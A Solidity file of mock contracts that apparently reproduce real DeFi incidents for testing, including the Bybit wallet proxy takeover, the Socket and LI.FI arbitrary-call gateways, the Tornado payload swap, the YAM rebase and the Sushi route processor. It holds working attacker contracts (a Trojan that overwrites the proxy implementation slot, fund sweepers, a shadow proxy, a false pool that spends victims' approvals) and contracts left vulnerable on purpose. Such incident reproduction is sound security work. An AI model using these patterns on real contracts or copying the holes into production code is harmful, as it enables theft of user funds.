// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {Address} from "@openzeppelin/contracts/utils/Address.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Governed__MockForIncident} from "./Base__MockForIncident.sol";

/// @notice Bybit's cold wallet: its owner runs calls, or foreign code on its own storage.
contract ColdWallet__MockForIncident is Governed__MockForIncident {
    receive() external payable {}

    function version() external pure virtual returns (uint256) {
        return 1;
    }

    function execTransaction(address to, bytes calldata data, uint8 operation) external onlyOwner {
        if (operation == 1) Address.functionDelegateCall(to, data);
        else Address.functionCall(to, data);
    }
}

contract ColdWalletNext__MockForIncident is ColdWallet__MockForIncident {
    function version() external pure override returns (uint256) {
        return 2;
    }
}

/// @notice Called `transfer`, and what it writes is the proxy's pointer.
contract Trojan__MockForIncident {
    bytes32 private constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    address private immutable _sweeper;

    constructor(address sweeper) {
        _sweeper = sweeper;
    }

    function transfer(address, uint256) external returns (bool) {
        address sweeper = _sweeper;
        assembly {
            sstore(IMPLEMENTATION, sweeper)
        }
        return true;
    }
}

contract Sweeper__MockForIncident {
    function sweepETH(address payable to) external {
        Address.sendValue(to, address(this).balance);
    }
}

/// @notice It answers as the wallet does, and can be upgraded away from.
contract SweeperCareful__MockForIncident is ColdWallet__MockForIncident {
    function sweepETH(address payable to) external {
        Address.sendValue(to, address(this).balance);
    }
}

/// @notice Between a proxy and its implementation, seen by neither: it forwards what it does not know.
contract Shadow__MockForIncident {
    // keccak256("shadow") by name; any slot of its own would do.
    bytes32 private constant REAL = 0x19d1fbba98ed3e6f5e6b7fa9ec5a4b0ca5dd9ecf8b1e8be29bfbaa6e5c1c8f4d;

    function plant(address real, bytes calldata data) external {
        assembly {
            sstore(REAL, real)
        }
        Address.functionDelegateCall(real, data);
    }

    function drain(address token, address to) external {
        IERC20(token).transfer(to, IERC20(token).balanceOf(address(this)));
    }

    receive() external payable {}

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let isOk := delegatecall(gas(), sload(REAL), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(isOk) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

/// @notice Socket's and LI.FI's gateway: users let it spend their tokens, and it swaps on the way.
contract Gateway__MockForIncident is Governed__MockForIncident {
    function bridge(IERC20 token, uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
    }
}

/// @notice With a swap that calls whatever it is told to.
contract GatewaySwap__MockForIncident is Gateway__MockForIncident {
    function swapAndBridge(address callTarget, bytes calldata callData) external {
        Address.functionCall(callTarget, callData);
    }
}

/// @notice The same, with the calls that it may make.
contract GatewayListed__MockForIncident is Gateway__MockForIncident {
    error TargetUnknown(address target);

    mapping(address target => bool) public isListed;

    function list(address target) external onlyOwner {
        isListed[target] = true;
    }

    function swapAndBridge(address callTarget, bytes calldata callData) external {
        if (!isListed[callTarget]) revert TargetUnknown(callTarget);
        Address.functionCall(callTarget, callData);
    }
}

/// @notice Tornado's: what voters read does nothing to the wallet.
contract Payload__MockForIncident {
    function run(address payable) external {}
}

/// @notice What stands at the same address when it runs.
contract PayloadSwapped__MockForIncident {
    function run(address payable to) external {
        Address.sendValue(to, address(this).balance);
    }
}

/// @notice Socket's: routes that the owner adds, each run on the gateway's own account by its number.
contract GatewayRoutes__MockForIncident is Governed__MockForIncident {
    address[] public routes;

    function version() external pure virtual returns (uint256) {
        return 1;
    }

    function addRoute(address route) external onlyOwner {
        routes.push(route);
    }

    function executeRoute(uint256 route, bytes calldata data) external {
        Address.functionDelegateCall(routes[route], data);
    }
}

contract GatewayRoutesNext__MockForIncident is GatewayRoutes__MockForIncident {
    function version() external pure override returns (uint256) {
        return 2;
    }
}

/// @notice Route 406: what it swaps by is not looked at.
contract Route__MockForIncident {
    function performAction(address token, bytes calldata swapExtraData) external {
        Address.functionCall(token, swapExtraData);
    }
}

/// @notice Atlantis': votes are balances, a few of them are a quorum, and nobody is left to vote against.
contract QuietGovernor__MockForIncident {
    error NotEnough(uint256 votes, uint256 quorum);
    error TooEarly(uint256 at);

    struct Proposal {
        address target;
        bytes data;
        uint256 votes;
        uint256 at;
    }

    IERC20 public immutable token;
    Proposal[] public proposals;

    constructor(IERC20 token_) {
        token = token_;
    }

    function propose(address target, bytes calldata data) external {
        proposals.push(Proposal(target, data, token.balanceOf(msg.sender), block.timestamp + 2 days));
    }

    function execute(uint256 index) external {
        Proposal storage proposal = proposals[index];
        uint256 quorum = token.totalSupply() / 100;
        if (proposal.votes < quorum) revert NotEnough(proposal.votes, quorum);
        if (block.timestamp < proposal.at) revert TooEarly(proposal.at);
        Address.functionCall(proposal.target, proposal.data);
    }
}

/// @notice It answers for itself what an implementation is asked, so that nobody asks twice.
contract ShadowCareful__MockForIncident is Shadow__MockForIncident {
    string public constant UPGRADE_INTERFACE_VERSION = "5.0.0";

    function proxiableUUID() external pure returns (bytes32) {
        return 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    }
}

/// @notice YAM's: a supply that is rebased, and a governor that counts a share of it.
contract RebaseToken__MockForIncident is Governed__MockForIncident {
    uint256 public constant BASE = 1e18;

    uint256 public totalSupply;
    mapping(address account => uint256) public votes;

    function start(address account, uint256 amount) external onlyOwner {
        votes[account] = amount;
        totalSupply = amount;
    }

    function rebase(uint256 factor) external virtual {
        totalSupply = (totalSupply * factor) / BASE;
    }
}

contract RebaseTokenUnscaled__MockForIncident is RebaseToken__MockForIncident {
    function rebase(uint256 factor) external override {
        totalSupply = totalSupply * factor;
    }
}

/// @notice A treasury that its token's holders govern, by a share of the supply.
contract RebaseTreasury__MockForIncident {
    error QuorumNotReached(uint256 votes, uint256 quorum);

    RebaseToken__MockForIncident public immutable token;

    constructor(RebaseToken__MockForIncident token_) payable {
        token = token_;
    }

    function withdraw(uint256 amount) external {
        uint256 quorum = token.totalSupply() / 25;
        uint256 held = token.votes(msg.sender);
        if (held < quorum) revert QuorumNotReached(held, quorum);
        Address.sendValue(payable(msg.sender), amount);
    }
}

/// @notice iearn's: it was set up with the wrong market, and what lies there is not counted.
contract RetiredVault__MockForIncident is Governed__MockForIncident {
    IERC20 public money;
    IERC20 public counted;
    uint256 public totalShares;
    mapping(address account => uint256) public shares;

    function open(IERC20 money_, IERC20 counted_) external onlyOwner {
        (money, counted) = (money_, counted_);
    }

    function deposit(uint256 amount) external {
        uint256 pool = counted.balanceOf(address(this));
        uint256 minted = totalShares == 0 || pool == 0 ? amount : (amount * totalShares) / pool;
        money.transferFrom(msg.sender, address(this), amount);
        shares[msg.sender] += minted;
        totalShares += minted;
    }

    function withdraw(uint256 amount) external {
        uint256 due = (money.balanceOf(address(this)) * amount) / totalShares;
        shares[msg.sender] -= amount;
        totalShares -= amount;
        money.transfer(msg.sender, due);
    }
}

interface IPool__MockForIncident {
    function swap(address token, address from, uint256 amount) external;
}

/// @notice Sushi's processor: users let it spend their tokens, and a pool calls back for what it is owed.
contract Processor__MockForIncident is Governed__MockForIncident {
    error PoolUnknown(address pool);

    mapping(address pool => bool) public isPool;
    address internal _called;

    function list(address pool) external onlyOwner {
        isPool[pool] = true;
    }

    function processRoute(address pool, address token, uint256 amount) external {
        _requirePool(pool);
        _called = pool;
        IPool__MockForIncident(pool).swap(token, msg.sender, amount);
        _called = address(0);
    }

    function swapCallback(address token, address from, uint256 amount) external {
        if (msg.sender != _called) revert PoolUnknown(msg.sender);
        IERC20(token).transferFrom(from, msg.sender, amount);
    }

    function _requirePool(address pool) internal view virtual {
        if (!isPool[pool]) revert PoolUnknown(pool);
    }
}

/// @notice Any pool will do.
contract ProcessorUnlisted__MockForIncident is Processor__MockForIncident {
    function _requirePool(address) internal view override {}
}

/// @notice A pool that is owed by somebody else.
contract FalsePool__MockForIncident {
    address private immutable _victim;

    constructor(address victim) {
        _victim = victim;
    }

    function swap(address token, address, uint256 amount) external {
        Processor__MockForIncident(msg.sender).swapCallback(token, _victim, amount);
    }
}
